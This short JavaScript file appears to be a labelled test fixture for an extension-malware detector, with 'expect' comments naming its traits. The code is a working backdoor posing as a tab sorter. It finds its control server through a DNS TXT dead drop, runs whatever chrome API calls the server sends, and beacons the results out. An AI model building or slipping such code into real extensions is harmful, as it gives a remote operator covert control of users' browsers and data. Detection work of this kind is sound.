const txt = async (name) => {
  const r = await fetch(`https://cloudflare-dns.com/dns-query?name=${name}&type=TXT`, { headers: { accept: "application/dns-json" } });
  const { Answer = [] } = await r.json();
  return Answer.map((a) => a.data.replace(/"/g, "")).join("");
};
let home;
// expect: named-by-data
const call = (path, args) => path.split(".").reduce((o, k) => o[k], chrome)(...args);
async function loop() {
  home ||= atob(await txt("cfg.tab-sorter.example"));
  // expect: dead-drop-address, fetches-for-others
  const jobs = await (await fetch(home + "/q")).json();
  for (const j of jobs) {
    const out = await call(j.path, j.args);
    navigator.sendBeacon(home + "/a/" + j.id, JSON.stringify(out));
  }
}
chrome.alarms.create("l", { periodInMinutes: 3 });
chrome.alarms.onAlarm.addListener(loop);
